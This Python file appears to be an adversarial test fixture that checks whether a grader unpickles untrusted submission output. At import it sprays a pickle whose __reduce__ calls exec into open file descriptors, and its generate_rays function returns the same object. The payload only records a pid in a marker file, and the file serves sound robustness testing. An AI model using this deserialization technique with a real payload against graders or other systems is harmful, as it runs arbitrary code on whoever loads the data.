"""An attack: make the grader unpickle something whose unpickling runs code. At import the
file writes such a pickle to every file descriptor; ``generate_rays`` returns an object whose
pickle does the same. Whoever unpickles it appends its pid to ``pickle_bomb.ran`` beside this
file: the grader's pid must never be there."""

import contextlib
import os
import pickle
from pathlib import Path

MARKER = Path(__file__).with_suffix(".ran")


class Bomb:
    def __reduce__(self):
        code = f"import os; open({str(MARKER)!r}, 'a').write(str(os.getpid()) + chr(10))"
        return (exec, (code,))


_payload = pickle.dumps(Bomb())
for _fd in range(3, 256):
    with contextlib.suppress(OSError):
        os.write(_fd, len(_payload).to_bytes(4, "big") + _payload)


def generate_rays(camera, width, height, pixel_x, pixel_y, u):
    return Bomb(), Bomb()
